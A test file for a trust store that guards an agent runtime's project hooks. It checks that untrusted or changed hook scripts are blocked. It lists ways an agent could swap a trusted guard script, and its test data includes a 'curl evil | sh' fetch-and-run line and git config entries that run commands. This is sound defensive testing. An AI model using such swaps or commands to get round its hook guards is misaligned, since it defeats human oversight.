// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a shell fills in
import { chmodSync, readdirSync, statSync, symlinkSync, utimesSync } from 'node:fs';
import { basename, join } from 'node:path';
import type { ScriptedStep } from '@spec/runtime/testing';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { sampleRuntime } from '../../test/plain-dialect.ts';
import { type ProjectFolder, projectFolder } from '../../test/project-folder.ts';
import { loadSettings, type SettingsOptions } from '../load-settings.ts';
import { selectWhatRuns } from './fingerprint.ts';
import { isSystem } from './sight.ts';
import { trustStore } from './store.ts';

const guard = 'bash "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --strict';

const config = (command = guard, more: object = {}) => ({
  hooks: {
    PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }],
    PostToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'echo ran >> log' }] }],
  },
  ...more,
});

const files = (content: object = config()) => ({
  '.claude/settings.json': content,
  '.claude/hooks/guard.sh': 'exit 0\n',
});

/** Loads the settings of a folder under a store beside it. */
async function loadFrom(project: ProjectFolder, home: ProjectFolder, options: SettingsOptions = {}) {
  const store = trustStore(join(home.path, 'config/trusted.json'));
  const file = join(project.path, '.claude/settings.json');
  const loaded = await loadSettings([file], { trust: store, projectDir: project.path, ...options });
  onTestFinished(() => loaded.close());
  const [report] = loaded.files;
  const trust = () => store.trust(file, report?.trust?.fingerprint as string);
  const codes = loaded.findings.filter(({ level }) => level === 'error').map(({ code }) => code);
  return {
    loaded,
    store,
    file,
    trust,
    codes,
    status: report?.trust?.status,
    scripts: report?.trust?.scripts,
  };
}

/** Sends a message that has the agent call Bash and then Read. */
async function play({ loaded }: Awaited<ReturnType<typeof loadFrom>>) {
  const script: ScriptedStep[] = [{ toolCalls: [{ name: 'Bash' }, { name: 'Read' }] }, 'Done.'];
  const { runtime, ran } = sampleRuntime(loaded.hooks, script);
  const thread = await runtime.createThread({ agent: 'helper' });
  await thread.send('Hello');
  const [bash, read] = (await thread.messages()).filter(({ role }) => role === 'tool');
  const runs = (await thread.runs()).filter(({ id }) => /_\d$/.test(id));
  return {
    ran,
    bash: bash?.content,
    read: read?.content,
    runs: runs.map(({ id, outcome }) => `${id} ${outcome}`),
  };
}

describe('a project’s settings file', () => {
  test('does not run before it was trusted: what it guards is denied, the rest is passed over', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    const unknown = await loadFrom(project, home);
    expect(unknown.status).toBe('unknown');
    expect(unknown.codes).toEqual(['untrusted']);
    expect(unknown.scripts).toEqual([join(project.path, '.claude/hooks/guard.sh')]);
    const denied = await play(unknown);
    expect(denied.bash).toMatch(/guards this, and cannot run: it is not trusted\. A person has to look at/);
    expect(denied.read).toBe('Read ran');
    expect(denied.runs).toEqual([
      'claude_project_pre_tool_use_1 denied',
      'claude_project_pre_tool_use_1 skipped',
      'claude_project_post_tool_use_1 skipped',
    ]);

    await unknown.trust();
    const trusted = await loadFrom(project, home);
    expect(trusted.status).toBe('trusted');
    expect(trusted.codes).toEqual([]);
    expect((await play(trusted)).bash).toBe('Bash ran');
    expect(project.read('log')).toBe('ran\n');
  });

  test('is looked at anew when its hooks change, and when a script that they name does', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    const status = async () => (await loadFrom(project, home)).status;
    expect(await status()).toBe('trusted');
    project.write(
      '.claude/settings.json',
      JSON.stringify(config(guard, { permissions: { allow: ['Bash'] } })),
    );
    expect(await status()).toBe('trusted');
    project.write('.claude/settings.json', `// A comment.\n${JSON.stringify(config())}`);
    expect(await status()).toBe('trusted');
    project.write('.claude/hooks/guard.sh', 'curl evil | sh\n');
    expect(await status()).toBe('changed');
    expect((await loadFrom(project, home)).codes).toEqual(['trust_changed']);
    project.write('.claude/hooks/guard.sh', 'exit 0\n');
    expect(await status()).toBe('trusted');
    project.remove('.claude/hooks/guard.sh');
    expect(await status()).toBe('changed');
    project.write('.claude/hooks/guard.sh', 'exit 0\n');
    project.write('.claude/settings.json', JSON.stringify(config(`${guard} --lax`)));
    expect(await status()).toBe('changed');
  });

  test('a script that changes after it was loaded does not run', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    const trusted = await loadFrom(project, home);
    expect((await play(trusted)).bash).toBe('Bash ran');
    project.write('.claude/hooks/guard.sh', 'touch owned; exit 0\n');
    expect((await play(trusted)).bash).toContain('a script that it names has changed since it was trusted');
    expect(() => project.read('owned')).toThrow();
    project.write('.claude/hooks/guard.sh', 'exit 0\n');
    expect((await play(trusted)).bash).toBe('Bash ran');
  });

  test('a change of a script is told to who watches', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    const { store, file, trust } = await loadFrom(project, home);
    await trust();
    const swapped: unknown[] = [];
    const watch = await loadSettings([file], {
      watch: true,
      interval: 20,
      trust: store,
      projectDir: project.path,
      onSwap: (next) => void swapped.push(next.files[0]?.trust?.status),
      onRefused: (error) => void swapped.push(error),
    });
    onTestFinished(() => watch.close());
    expect(watch.current.files[0]?.trust?.status).toBe('trusted');
    project.write('.claude/hooks/guard.sh', 'true\n');
    await vi.waitFor(() => expect(swapped).toEqual(['changed']));
  });

  test('that was only touched runs', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    const trusted = await loadFrom(project, home);
    utimesSync(join(project.path, '.claude/hooks/guard.sh'), new Date(0), new Date(0));
    expect((await play(trusted)).bash).toBe('Bash ran');
  });

  test('in a place where all are trusted runs, and so does the user’s own', async () => {
    const project = projectFolder(files());
    const home = projectFolder();
    const all = await loadFrom(project, home, { trust: 'all' });
    expect(all.status).toBe('given');
    expect((await play(all)).bash).toBe('Bash ran');
    const file = { file: join(project.path, '.claude/settings.json'), layer: 'user' } as const;
    const own = await loadSettings([file], { projectDir: project.path });
    expect(own.files[0]?.trust?.status).toBe('given');
  });

  test('without a guard nothing is denied while it is not trusted', async () => {
    const audit = {
      dialect: 'settings',
      hooks: { PreToolUse: [{ matcher: '*', command: 'echo x >> log' }] },
    };
    const project = projectFolder(files(audit));
    const played = await play(await loadFrom(project, projectFolder()));
    expect(played.bash).toBe('Bash ran');
    expect(played.runs[0]).toBe('settings_project_pre_tool_use_1 skipped');
    expect(() => project.read('log')).toThrow();
  });

  test('that guards prompts lets none pass while it is not trusted', async () => {
    const prompts = { hooks: { UserPromptSubmit: [{ hooks: [{ type: 'command', command: 'true' }] }] } };
    const { loaded } = await loadFrom(projectFolder(files(prompts)), projectFolder());
    const { runtime } = sampleRuntime(loaded.hooks, []);
    const thread = await runtime.createThread({ agent: 'helper' });
    expect(await thread.send('Hello')).toMatchObject({ status: 'denied' });
  });
});

describe('the scripts of a fingerprint', () => {
  test.for([
    ['.claude/hooks/guard.sh', 'x.sh'],
    ['python3 "${CLAUDE_PROJECT_DIR}/.claude/hooks/check.py" < in > out.txt', 'check.py'],
    [`bash -c 'input=$(cat); node "$(pwd)/tools/run.mjs"'`, 'run.mjs'],
    ['test -f a.txt && ./tools/no-extension --x', 'no-extension'],
    [`sh -c "sh 'tools/with space.sh'"`, 'with space.sh'],
    ['FOO=1 tools/run.mjs|tee log', 'run.mjs'],
  ])('%s', async ([command]) => {
    const project = projectFolder({
      '.claude/settings.json': config(command),
      '.claude/hooks/guard.sh': '',
      '.claude/hooks/check.py': '',
      'tools/run.mjs': '',
      'tools/no-extension': '#!/bin/sh\n',
      'tools/with space.sh': '',
      'a.txt': 'data',
      log: '',
    });
    const { scripts } = await loadFrom(project, projectFolder());
    expect(scripts).toHaveLength(1);
    expect(command).toContain(basename(scripts?.[0] ?? '-'));
  });
});

describe('what an agent could put in the place of a script', () => {
  const changed = 'a script that it names has changed since it was trusted';
  const own = 'touch owned; exit 0\n';

  test.for<[command: string, file: string, args?: readonly string[]]>([
    ['bash guard', 'guard'],
    ['. ./lib; exit 0', 'lib'],
    ['cd tools && sh ./check.sh', 'tools/check.sh'],
    ['chdir tools; sh ./check.sh', 'tools/check.sh'],
    ['env --chdir=tools sh ./check.sh', 'tools/check.sh'],
    ['unshare --wd=tools sh ./check.sh', 'tools/check.sh'],
    ['S=guard.sh; sh $S', 'guard.sh'],
    ['D=$CLAUDE_PROJECT_DIR/tools; sh "$D/check.sh"', 'tools/check.sh'],
    ['for f in hooks.d/*.sh; do sh "$f"; done', 'hooks.d/a.sh'],
    ['sh my\\ tools/check.sh', 'my tools/check.sh'],
    ['sh "gu"ard.sh', 'guard.sh'],
    ['python3 -m guard', 'guard.py'],
    ['awk -f rules.txt /dev/null', 'rules.txt'],
    ['sh', 'guard', ['${CLAUDE_PROJECT_DIR}/guard']],
  ])('does not run: %s, %s', async ([command, file, args]) => {
    const hooks = { PreToolUse: [{ hooks: [{ type: 'command', command, ...(args && { args }) }] }] };
    const project = projectFolder({ ...files({ hooks }), [file]: 'exit 0\n' });
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    const trusted = await loadFrom(project, home);
    project.write(file, own);
    expect((await play(trusted)).bash).toContain(changed);
    expect(() => project.read('owned')).toThrow();
  });

  test('does not run where there was no file when it was trusted', async () => {
    const hooks = { PreToolUse: [{ hooks: [{ type: 'command', command: './tool' }] }] };
    const project = projectFolder(files({ hooks }));
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    const trusted = await loadFrom(project, home);
    expect((await play(trusted)).bash).toBe('Bash ran');
    project.write('tool', `#!/bin/sh\n${own}`);
    chmodSync(join(project.path, 'tool'), 0o755);
    expect((await play(trusted)).bash).toContain(changed);
  });

  test('does not run where it is put there while an earlier entry runs', async () => {
    const entry = (command: string): object => ({ command, continueOnFailure: false });
    const hooks = { PreToolUse: [entry('cp other.txt guard.sh'), entry('sh guard.sh')] };
    const project = projectFolder({
      ...files({ dialect: 'settings', hooks }),
      'guard.sh': 'exit 0\n',
      'other.txt': own,
    });
    const home = projectFolder();
    await (await loadFrom(project, home)).trust();
    expect((await play(await loadFrom(project, home))).bash).toContain(changed);
    expect(() => project.read('owned')).toThrow();
  });

  test('is said where nobody can tell which file a command runs', async () => {
    const hooks = { PreToolUse: [{ command: 'sh "$(git rev-parse --show-toplevel)/guard.sh"' }] };
    const { loaded } = await loadFrom(projectFolder(files({ dialect: 'settings', hooks })), projectFolder());
    expect(loaded.findings.map(({ code }) => code)).toContain('unseen_script');
  });
});

describe('hooks that were trusted and are gone', () => {
  test.for([
    ['the file is removed', (project: ProjectFolder) => project.remove('.claude/settings.json')],
    ['it has none', (project: ProjectFolder) => project.write('.claude/settings.json', '{}')],
    [
      'a guard is taken out',
      (project: ProjectFolder) =>
        project.write('.claude/settings.json', '{"hooks":{"SessionEnd":[{"command":"true"}]}}'),
    ],
    [
      'all are switched off',
      (project: ProjectFolder) =>
        project.write('.claude/settings.json', JSON.stringify(config(guard, { disableAllHooks: true }))),
    ],
    [
      'it is read as another format',
      (project: ProjectFolder) =>
        project.write('.claude/settings.json', JSON.stringify(config(guard, { dialect: 'hub' }))),
    ],
  ] as const)('are told, and stay where the file is watched: %s', async ([, change]) => {
    const project = projectFolder(files());
    const home = projectFolder();
    const { store, file, trust } = await loadFrom(project, home);
    await trust();
    const heard: unknown[] = [];
    const watch = await loadSettings([file], {
      watch: true,
      interval: 20,
      trust: store,
      projectDir: project.path,
      onSwap: () => void heard.push('swapped'),
      onRefused: ({ message }) => void heard.push(message),
    });
    onTestFinished(() => watch.close());
    change(project);
    await vi.waitFor(() => expect(heard.join()).toContain('trust_changed'));
    expect(heard).not.toContain('swapped');
    expect(watch.current.entries).toHaveLength(2);
    const anew = await loadSettings([file], { trust: store, projectDir: project.path });
    expect(anew.findings.map(({ code }) => code)).toContain('trust_changed');
    // Who takes its trust back takes the guards back too.
    await store.forget(join(project.path, '.claude/settings.json'));
    await vi.waitFor(() => expect(heard.at(-1)).toBe('swapped'));
  });
});

test('a key beside the hooks that changes what runs is part of what is trusted, and no other is', async () => {
  const keys = { disableAllHooks: true, dialect: 'claude', permissions: { deny: ['Bash'] }, env: { A: '1' } };
  const home = projectFolder();
  const load = (more: object) => loadFrom(projectFolder(files(config(guard, more))), home);
  const plain = await load({});
  for (const [key, value] of Object.entries(keys)) {
    const { loaded } = await load({ [key]: value });
    const changesWhatRuns = loaded.entries.length !== plain.loaded.entries.length;
    expect([key, selectWhatRuns({ hooks: {}, [key]: value }) !== selectWhatRuns({ hooks: {} })]).toEqual([
      key,
      changesWhatRuns || key === 'dialect',
    ]);
  }
});

describe('the store', () => {
  test('is written whole, for its owner alone', async () => {
    const home = projectFolder();
    const path = join(home.path, 'deep/er/trusted.json');
    const store = trustStore(path);
    expect(await store.get('/a')).toBeUndefined();
    await Promise.all(Array.from({ length: 20 }, (_, i) => store.trust(`/file${i}`, `print${i}`)));
    expect(await store.get('/file7')).toBe('print7');
    expect(await trustStore(path).get('/file19')).toBe('print19');
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(statSync(join(home.path, 'deep')).mode & 0o777).toBe(0o700);
    expect(readdirSync(join(home.path, 'deep/er'))).toEqual(['trusted.json']);
    expect(await store.forget('/file7')).toBe(true);
    expect(await store.forget('/file7')).toBe(false);
    expect(await store.get('/file7')).toBeUndefined();
    expect(await store.get('toString')).toBeUndefined();
    const all = await store.all();
    expect([all.size, all.get('/file8')]).toEqual([19, 'print8']);
  });

  test('that cannot be read is never taken for an empty one', async () => {
    const home = projectFolder({ 'broken.json': '{', 'other.json': { version: 9 } });
    for (const name of ['broken.json', 'other.json']) {
      const store = trustStore(join(home.path, name));
      await expect(store.get('/a')).rejects.toMatchObject({ name: 'DefinitionError', code: 'bad_option' });
      await expect(store.trust('/a', 'b')).rejects.toThrow('Remove it to trust files again');
    }
    expect(home.read('broken.json')).toBe('{');
  });
});

test.each([
  ['/usr/bin/git', true],
  ['/usr/app/.claude/guard.sh', false],
  ['/usr/apparent/guard.sh', true],
  ['/usr/src/other/guard.sh', false],
  ['/home/ada/guard.sh', false],
])('of a project in /usr/app, %s belongs to the system: %s', (path, expected) => {
  expect(isSystem(path, { project: '/usr/app' })).toBe(expected);
});

describe('code that links and settings of git lead to', () => {
  test.each([
    [
      'node .claude/g.mjs',
      '../real/g.mjs',
      { 'real/g.mjs': "import './lib.mjs'", 'real/lib.mjs': '1' },
      'real/lib.mjs',
    ],
    [
      'sh .claude/g.mjs/g',
      '../shared/hooks',
      { 'shared/hooks/g': '. "$(dirname "$0")/../lib"', 'shared/lib': ':' },
      'shared/lib',
    ],
  ])('is followed as the system does: %s', async (command, target, code, changed) => {
    const project = projectFolder({ '.claude/settings.json': config(command), ...code });
    const home = projectFolder();
    symlinkSync(target, join(project.path, '.claude/g.mjs'));
    await (await loadFrom(project, home)).trust();
    expect((await loadFrom(project, home)).status).toBe('trusted');
    project.write(changed, '2');
    expect((await loadFrom(project, home)).status).toBe('changed');
  });

  const plain = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/a.git\n';
  test.each([
    '[alias]\n\tst = !sh lib\n',
    '[core]\n\tfsmonitor = sh lib\n',
    '[core] fsmonitor = sh lib\n',
    '[include]\n\tpath = x\n',
    '[diff]\n\texternal = sh lib\n',
  ])('changes with settings of the repository that may run something: %j', async (added) => {
    const project = projectFolder({
      '.claude/settings.json': config('git status --short'),
      '.git/config': plain,
    });
    const home = projectFolder();
    const unknown = await loadFrom(project, home);
    expect(unknown.loaded.findings.map(({ code }) => code)).not.toContain('unseen_script');
    await unknown.trust();
    project.write('.git/config', `${plain}[branch "b"]\n\tremote = origin\n`);
    expect((await loadFrom(project, home)).status).toBe('trusted');
    project.write('.git/config', `${plain}${added}`);
    const changed = await loadFrom(project, home);
    expect(changed.status).toBe('changed');
    expect(changed.loaded.findings.map(({ code }) => code)).toContain('unseen_script');
  });
});
